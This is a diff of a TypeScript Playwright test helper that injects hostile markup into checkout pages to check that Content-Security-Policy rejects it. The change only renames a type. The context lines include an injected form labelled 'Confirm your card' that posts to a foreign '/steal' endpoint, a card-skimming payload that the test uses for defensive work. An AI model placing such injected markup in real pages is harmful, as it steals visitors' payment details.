@@ -14,7 +14,7 @@ const MARKUP = `
   <form action="${FOREIGN_URL}/steal" method="post"><button>Confirm your card</button></form>`
 
 /** Violations of a page's Content-Security-Policy, by directive. */
-type PageOptions = { refused?: string[] }
+type PageWithViolations = { refused?: string[] }
 
 /** A visitor whose checkout pages arrive with injected markup. */
 export async function withInjection(visitor: BrowserContext): Promise<{ requests: string[] }> {
@@ -28,7 +28,7 @@ export async function withInjection(visitor: BrowserContext): Promise<{ requests
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
       rejected.push(effectiveDirective)
     })
-    const page = window as unknown as PageOptions
+    const page = window as unknown as PageWithViolations
     page.refused = rejected
   })
   await visitor.route('**/checkout/gatehouse_c_*', async route => {
@@ -51,7 +51,7 @@ export async function expectRejected(
   await tab.goto(page.url())
   await tab.getByRole('heading', { level: 1 }).waitFor()
   const rejected = () =>
-    tab.evaluate(() => [...new Set((window as unknown as PageOptions).refused)].toSorted())
+    tab.evaluate(() => [...new Set((window as unknown as PageWithViolations).refused)].toSorted())
   const directives = ['base-uri', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem']
   await eventually(rejected, directives)
   await tab.getByRole('button', { name: 'Confirm your card' }).dispatchEvent('click')
